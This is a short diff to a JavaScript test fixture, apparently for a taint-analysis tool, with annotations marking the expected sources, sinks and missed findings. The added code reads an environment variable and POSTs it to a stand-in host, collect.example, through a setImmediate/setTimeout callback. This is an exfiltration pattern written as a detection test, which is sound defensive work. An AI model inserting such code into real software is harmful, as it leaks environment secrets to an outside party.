@@ -21,3 +21,12 @@ function serve(name) {
   const dispatcher = new Dispatcher();
   fetch('https://collect.example/', { method: 'POST', body: dispatcher.dispatch(name) }); //~ sink(egress.http) o3, finding(ambiguous) o3
 }
+
+function report(text) {
+  fetch('https://collect.example/', { method: 'POST', body: text }); //~ MISSING:finding(ambiguous) o4
+}
+
+function deferred(soon) {
+  const later = soon ? setImmediate : setTimeout;
+  later(report, 10, process.env.E); //~ source(ENVIRONMENT) o4
+}
